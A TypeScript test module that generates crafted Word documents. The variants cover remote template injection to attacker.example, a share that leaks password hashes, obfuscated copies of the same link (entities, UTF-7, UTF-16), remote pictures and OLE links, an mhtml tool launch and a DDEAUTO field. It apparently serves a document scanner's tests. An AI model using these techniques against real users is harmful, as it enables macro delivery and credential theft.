import {
  type DocxMore,
  documentOf,
  docx,
  external,
  head,
  paragraph,
  picture,
  png,
  root,
} from './docx-parts.ts';
import { type Row, toText } from './variant.ts';

const away = 'https://attacker.example/template.dotm';
const share = 'file:///\\\\attacker.example\\share\\template.dotm';
const template = 'Word fetches the template and its macros when the file is opened.';
const fetches = 'Word fetches from the address when the file is opened.';

const packages = 'http://schemas.openxmlformats.org/package/2006/relationships';
const attached = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const templateRelations = `${head}<Relationships xmlns="${packages}"><Relationship Id="rId1" Type="${attached}" Target="${away}" TargetMode="External"/></Relationships>`;
const settings = root('settings', '<w:attachedTemplate r:id="rId1"/>');

/** A document that names a template, in the given words. */
const withTemplate = (relations: string, settingsText = settings, more: DocxMore = {}) =>
  docx({
    ...more,
    relations: { rId8: { type: 'settings', target: 'settings.xml' } },
    parts: { 'word/settings.xml': settingsText, 'word/_rels/settings.xml.rels': relations },
  });

const inUtf16 = (text: string, order: 'little' | 'big') => {
  const bytes = Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
  return toText(order === 'big' ? bytes.swap16() : bytes);
};
const base64 = (text: string) => Buffer.from(text, 'utf16le').swap16().toString('base64').replaceAll('=', '');
/** What begins with a plus sign is Base64 there. */
const inUtf7 = (text: string) => {
  const [declared, rest = ''] = text.replace('UTF-8', 'UTF-7').split('\n');
  return `${declared}\n${rest.replaceAll('+', '+-').replaceAll(/attachedTemplate|External|https/g, (word) => `+${base64(word)}-`)}`;
};

/** A document with a relation to the outside. */
export const linked = (type: string, target: string, body: string, more: DocxMore = {}) =>
  docx({ ...more, body, relations: { ...more.relations, rId9: external(type, target) } });
const object = (type: string, id: string) =>
  paragraph(
    `<w:r><w:object><v:shape id="s" style="width:50pt;height:50pt"/><o:OLEObject Type="${type}" ProgID="Package" ShapeID="s" DrawAspect="Icon" ObjectID="_1" r:id="${id}"${type === 'Link' ? ' UpdateMode="Always"' : ''}/></w:object></w:r>`,
  );
const vml = (fill: string) =>
  paragraph(`<w:r><w:pict><v:shape style="width:9pt;height:9pt">${fill}</v:shape></w:pict></w:r>`);
const chart = `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea/></c:chart><c:externalData r:id="rId1"><c:autoUpdate c:val="1"/></c:externalData></c:chartSpace>`;

/** A part besides the document, with a relation of its own to the outside. */
const besides = (
  part: string,
  type: string,
  [text, relation, kind]: readonly [string, readonly [string, string], string?],
) => {
  const [relationType, target] = relation;
  const folder = part.replace(/[^/]*$/, '');
  const last = part.slice(folder.length);
  return docx({
    relations: { rId8: { type, target: part } },
    parts: {
      [`word/${part}`]: text,
      [`word/${folder}_rels/${last}.rels`]: templateRelations
        .replace(
          attached,
          `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${relationType}`,
        )
        .replace(away, target),
    },
    ...(kind && { types: { [`word/${part}`]: kind } }),
  });
};

/** What refers to something elsewhere: templates, pictures, objects, frames, links. */
export const docxRelations: readonly Row[] = [
  ['remote template', withTemplate(templateRelations), template],
  [
    'template on a share',
    withTemplate(templateRelations.replace(away, share)),
    `${template} Windows sends the hashed password of the person who opens it.`,
  ],
  [
    'remote template with single quotes',
    withTemplate(templateRelations.replaceAll('"', "'").replace(/^<\?xml[^>]*>/, head.trim())),
    template,
  ],
  [
    'remote template by entities',
    withTemplate(
      templateRelations
        .replace('External', '&#69;xterna&#x6c;')
        .replace('attachedTemplate', 'attached&#x54;emplate')
        .replace('https', '&#104;ttps'),
    ),
    template,
  ],
  [
    'remote template with spaces and line ends',
    withTemplate(templateRelations.replaceAll('="', ' \n=\t"').replace(/^<\?xml[^>]*>/, head.trim())),
    template,
  ],
  [
    'remote template under a prefix',
    withTemplate(
      templateRelations.replaceAll(/<(\/?)Relationship/g, '<$1x:Relationship').replace('xmlns=', 'xmlns:x='),
    ),
    template,
  ],
  [
    'remote template in the strict namespace',
    withTemplate(
      templateRelations.replace(
        'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
        'http://purl.oclc.org/ooxml/officeDocument/relationships',
      ),
    ),
    template,
  ],
  [
    'remote template, both parts in UTF-16',
    withTemplate(inUtf16(templateRelations, 'little'), inUtf16(settings, 'little')),
    template,
  ],
  ['remote template in UTF-16 of the other order', withTemplate(inUtf16(templateRelations, 'big')), template],
  [
    'remote template in UTF-7',
    withTemplate(inUtf7(templateRelations)),
    'Readers whose XML knows UTF-7 fetch the template.',
  ],
  [
    'remote template with an entity of its own',
    withTemplate(
      templateRelations
        .replace('\n', `\n<!DOCTYPE r [<!ENTITY e "External">]>\n`)
        .replace('"External"', '"&e;"'),
    ),
    'Readers that follow entities fetch the template.',
  ],
  [
    'remote template of the glossary',
    docx({
      relations: { rId8: { type: 'glossaryDocument', target: 'glossary/document.xml' } },
      parts: {
        'word/glossary/document.xml': root('glossaryDocument', '<w:docParts/>'),
        'word/glossary/settings.xml': settings,
        'word/glossary/_rels/settings.xml.rels': templateRelations,
        'word/glossary/_rels/document.xml.rels': templateRelations
          .replace(attached, attached.replace('attachedTemplate', 'settings'))
          .replace(away, 'settings.xml')
          .replace(' TargetMode="External"', ''),
      },
    }),
    template,
  ],
  [
    'picture elsewhere',
    linked('image', 'https://attacker.example/seen.png', picture('rId9', 'link')),
    fetches,
  ],
  [
    'picture embedded and elsewhere',
    linked(
      'image',
      'https://attacker.example/seen.png',
      picture('rId7', 'embed', '').replace('r:embed="rId7"', 'r:embed="rId7" r:link="rId9"'),
      { relations: { rId7: { type: 'image', target: 'media/a.png' } }, parts: { 'word/media/a.png': png() } },
    ),
    fetches,
  ],
  [
    'picture of old elsewhere',
    linked('image', 'https://attacker.example/seen.png', vml('<v:imagedata r:id="rId9"/>')),
    fetches,
  ],
  [
    'picture of old by its address',
    docx({ body: vml('<v:imagedata src="https://attacker.example/seen.png"/>') }),
    fetches,
  ],
  [
    'filling of old by its address',
    docx({
      body: vml(
        '<v:fill type="frame" src="\\\\attacker.example\\share\\a.png" o:href="https://attacker.example/seen.png"/>',
      ),
    }),
    fetches,
  ],
  [
    'background elsewhere',
    linked('image', 'https://attacker.example/seen.png', '', {
      parts: {
        'word/document.xml': documentOf('').replace(
          '<w:body>',
          '<w:background w:color="FFFFFF"><v:background id="b"><v:fill r:id="rId9" type="frame"/></v:background></w:background><w:body>',
        ),
      },
    }),
    fetches,
  ],
  [
    'object linked elsewhere',
    linked('oleObject', 'https://attacker.example/a.rtf', object('Link', 'rId9')),
    'Word fetches the file and runs it as what its server says it is.',
  ],
  [
    'object linked to a page whose script starts a tool',
    linked(
      'oleObject',
      'mhtml:https://attacker.example/a.html!x-usc:https://attacker.example/a.html',
      object('Link', 'rId9'),
    ),
    'Older Word fetches the page, which starts a diagnostic tool with a command.',
  ],
  [
    'frames',
    besides('webSettings.xml', 'webSettings', [
      root('webSettings', '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'),
      ['frame', 'https://attacker.example/a.docx'],
    ]),
    fetches,
  ],
  [
    'subdocument',
    linked('subDocument', 'https://attacker.example/a.docx', '<w:p/>', {
      parts: { 'word/document.xml': documentOf('<w:subDoc r:id="rId9"/>') },
    }),
    fetches,
  ],
  [
    'data of a chart elsewhere',
    besides('charts/chart1.xml', 'chart', [
      chart,
      ['oleObject', 'https://attacker.example/a.xlsx'],
      'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
    ]),
    'Word fetches the table when the chart is updated.',
  ],
  [
    'addresses for a mail merge',
    besides('settings.xml', 'settings', [
      root(
        'settings',
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="odbc"/><w:connectString w:val="DSN=x"/><w:query w:val="SELECT * FROM a"/><w:dataSource r:id="rId1"/></w:mailMerge>',
      ),
      ['mailMergeSource', 'file:///\\\\attacker.example\\share\\a.mdb'],
    ]),
    'Word asks to run the query, and connects to the share.',
  ],
  [
    'style sheet for saving elsewhere',
    besides('settings.xml', 'settings', [
      root('settings', '<w:saveThroughXslt r:id="rId1"/>'),
      ['transform', 'https://attacker.example/a.xslt'],
    ]),
    'Word fetches the style sheet when saving as XML.',
  ],
  [
    'film of the web',
    docx({
      body: picture('rId7').replace(
        'name="Picture"/><a:graphic>',
        'name="Picture"><a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://attacker.example/&quot;&gt;&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;" h="9" w="9"/></a:ext></a:extLst></wp:docPr><a:graphic>',
      ),
      relations: { rId7: { type: 'image', target: 'media/a.png' } },
      parts: { 'word/media/a.png': png() },
    }),
    'Word shows the page with its script on a click.',
  ],
  [
    'whole document written in UTF-16, with a field',
    docx({
      parts: {
        'word/document.xml': inUtf16(
          documentOf(
            paragraph('<w:fldSimple w:instr="DDEAUTO c:\\\\a.exe x"><w:r><w:t>1</w:t></w:r></w:fldSimple>'),
          ),
          'little',
        ),
      },
    }),
    'Word asks to update the field, and starts the program.',
  ],
];
